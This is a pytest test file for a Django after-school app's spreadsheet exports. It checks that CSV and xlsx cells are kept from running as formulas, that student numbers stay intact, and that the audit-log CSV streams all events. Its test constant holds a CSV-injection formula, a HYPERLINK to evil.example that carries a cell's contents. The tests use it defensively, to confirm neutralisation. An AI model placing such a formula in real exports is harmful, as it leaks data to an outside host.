"""Spreadsheet exports (issue 14): no cell runs as a formula in CSV or .xlsx, 学籍号 and
numbers keep every character, every export goes through ``aftercare.exports``, and the audit
log's CSV streams every event (no silent cut at 50,000)."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
import tablib
from django.db import connection
from django.http import StreamingHttpResponse
from django.urls import reverse

from aftercare import exports
from aftercare.audit import record_event

ROOT = Path(__file__).resolve().parent.parent
APPS = (
    "aftercare",
    "plans",
    "enrollment",
    "scheduling",
    "attendance",
    "feedback",
    "billing",
    "reporting",
)

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize(
    ("value", "runs"),
    [
        ("=1+2", True),
        (ATTACK, True),
        ("+86 138 0000 0002", True),
        ("-2+3", True),
        ("@SUM(A1:A3)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("-1", False),  # a number, not a formula
        ("-3.5", False),
        ("+7", False),
        ("1e5", False),
        ("-", False),
        ("2019030101", False),  # 学籍号
        ("G320102201903010011", False),
        ("13800000002", False),
        ("张=三", False),
        ("", False),
        (-1, False),
        (None, False),
    ],
)
def test_what_counts_as_a_formula(value, runs):
    assert exports.is_formula_like(value) is runs
    expected = "'" + value if runs else value
    assert exports.csv_cell(value) == expected


def _dataset():
    return tablib.Dataset(
        [ATTACK, "2019030101", "-1", -1, "@x", "王小明"],
        headers=["名称", "学籍号", "text", "number", "at", "name"],
        title="名单/1",
    )


def test_csv_quotes_formulas_and_keeps_everything_else():
    text = exports.csv_bytes(_dataset()).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    assert header == ["名称", "学籍号", "text", "number", "at", "name"]
    assert row == ["'" + ATTACK, "2019030101", "-1", "-1", "'@x", "王小明"]


def test_xlsx_keeps_formulas_as_text_unchanged():
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(_dataset())))
    sheet = book.active
    assert sheet.title == "名单-1"
    (cells,) = sheet.iter_rows(min_row=2)
    assert [c.value for c in cells] == [ATTACK, "2019030101", "-1", -1, "@x", "王小明"]
    assert [c.data_type for c in cells] == ["s", "s", "s", "n", "s", "s"]  # no "f"
    assert cells[0].quotePrefix and cells[4].quotePrefix and not cells[1].quotePrefix


def test_xlsx_of_a_databook_has_every_sheet():
    one, two = _dataset(), _dataset()
    two.title = "第二页"
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(tablib.Databook([one, two]))))
    assert book.sheetnames == ["名单-1", "第二页"]


# A spreadsheet writer anywhere else would bypass the neutralising.
WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\.export\(\s*[\"'](xlsx|csv|xls)|Workbook\(")


def test_every_export_goes_through_the_one_helper():
    offenders = [
        f"{path.relative_to(ROOT)}:{n}"
        for app in APPS
        for path in sorted((ROOT / app).rglob("*.py"))
        if "migrations" not in path.parts and path != ROOT / "aftercare" / "exports.py"
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if WRITERS.search(line)
    ]
    assert not offenders, offenders


# --------------------------------------------------------------------------- the audit CSV


def _streamed(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
def test_audit_csv_neutralises_a_parents_display_name(world, client, login):
    parent = world.users["parent_a1"]
    parent.full_name = ATTACK
    parent.save(update_fields=["full_name"])
    record_event(actor=parent, action="binding.requested", obj=world.schools["a1"])
    login(world.users["official_a"])
    rows = _streamed(client.get(reverse("audit_log"), {"export": "csv"}))
    (event,) = [r for r in rows if r[3] == "binding.requested"]
    assert event[2] == "'" + ATTACK


@pytest.mark.django_db
def test_audit_csv_streams_every_event_past_the_old_cut(world, client, login):
    """The export used to stop at 50,000 rows without a word. 50,123 events of district a
    (and one of b, not exported) come out in full, newest first, from a server-side cursor."""
    total = 50_123
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO aftercare_auditevent (district_id, actor_repr, action, object_type,"
            " object_id, object_repr, payload, created_at)"
            " SELECT %s, 'seed', 'test.bulk', '', '', 'event ' || n, '{}'::jsonb,"
            " now() - make_interval(secs => n)"
            " FROM generate_series(1, %s) AS n",
            [world.a.pk, total],
        )
    record_event(actor=world.users["official_b"], action="test.other", obj=world.b)
    login(world.users["official_a"])
    response = client.get(reverse("audit_log"), {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = _streamed(response)
    header, body = rows[0], rows[1:]
    assert len(header) == 6
    assert len(body) == total
    assert body[0][4] == "event 1" and body[-1][4] == f"event {total}"
    assert not [r for r in body if r[3] == "test.other"]


@pytest.mark.django_db
def test_audit_csv_follows_the_filter(world, client, login):
    record_event(
        actor=world.users["principal_a1"], action="plan.submitted", obj=world.schools["a1"]
    )
    record_event(actor=world.users["official_a"], action="semester.created", obj=world.a)
    login(world.users["official_a"])
    rows = _streamed(client.get(reverse("audit_log"), {"export": "csv", "action": "plan."}))
    assert [r[3] for r in rows[1:]] == ["plan.submitted"]
